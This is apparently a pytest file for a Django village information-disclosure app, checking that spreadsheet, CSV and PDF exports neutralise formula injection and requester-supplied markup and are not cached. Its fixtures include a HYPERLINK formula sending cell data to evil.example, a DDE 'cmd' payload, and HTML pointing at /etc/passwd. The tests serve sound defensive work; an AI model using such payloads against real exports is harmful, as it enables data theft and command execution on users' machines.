"""Register and DIP downloads go through the one export module: text that looks like a formula
stays text, what a requester typed never becomes PDF markup (nor makes the PDF read a file), and
the registers, which name requesters, are never stored by a browser or proxy."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from python_calamine import CalamineWorkbook

from balai.disclosure import services
from balai.disclosure.models import DipItem
from balai.disclosure.tests.conftest import make_request

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'


@pytest.fixture
def registers(dagan, alice):
    info = make_request(
        dagan,
        received_on=date(2026, 3, 16),
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        information=FORMULA,
    )
    services.request_decide(
        info=info,
        decision="refused",
        answer="Tidak.",
        actor=alice,
        exemption_ground="Pasal 17",
        decided_on=date(2026, 3, 20),
    )
    services.objection_file(
        info=info, grounds=["a"], statement="-2+3+cmd", filed_on=date(2026, 3, 23)
    )
    return info


@pytest.mark.parametrize(("kind", "column"), [("permohonan", 4), ("keberatan", 4)])
def test_formula_looking_text_stays_text_in_the_registers(client, alice, registers, kind, column):
    client.force_login(alice)
    response = client.get(f"/dasbor/dagan/ppid/register/{kind}.xlsx")
    book = zipfile.ZipFile(io.BytesIO(response.content))
    assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")  # no cell is a formula
    rows = CalamineWorkbook.from_filelike(io.BytesIO(response.content)).get_sheet_by_index(0)
    assert rows.to_python()[1][column] == "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("fmt", ["xlsx", "pdf"])
@pytest.mark.parametrize("kind", ["permohonan", "keberatan"])
def test_register_downloads_are_never_stored(client, alice, registers, kind, fmt):
    client.force_login(alice)
    response = client.get(f"/dasbor/dagan/ppid/register/{kind}.{fmt}")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment;")


def test_what_a_requester_types_is_text_in_the_pdf_register(client, dagan, alice):
    make_request(
        dagan,
        received_on=date(2026, 3, 16),
        name="<b>Wartini",
        information='<img src="/etc/passwd"/> <a href="http://evil.example">klik</a>',
    )
    client.force_login(alice)
    response = client.get("/dasbor/dagan/ppid/register/permohonan.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    assert b"evil.example" not in response.content  # no link annotation was made


def test_a_formula_in_the_dip_is_defused_in_the_public_csv(client, dagan):
    DipItem.objects.create(
        village=dagan, year=2026, category="setiap_saat", title=FORMULA, summary="+62 sekian"
    )
    response = client.get("/desa/dagan/ppid/dip/2026.csv")
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA and rows[1][2] == "'+62 sekian"
    assert "no-store" not in response.get("Cache-Control", "")  # public list, nothing personal
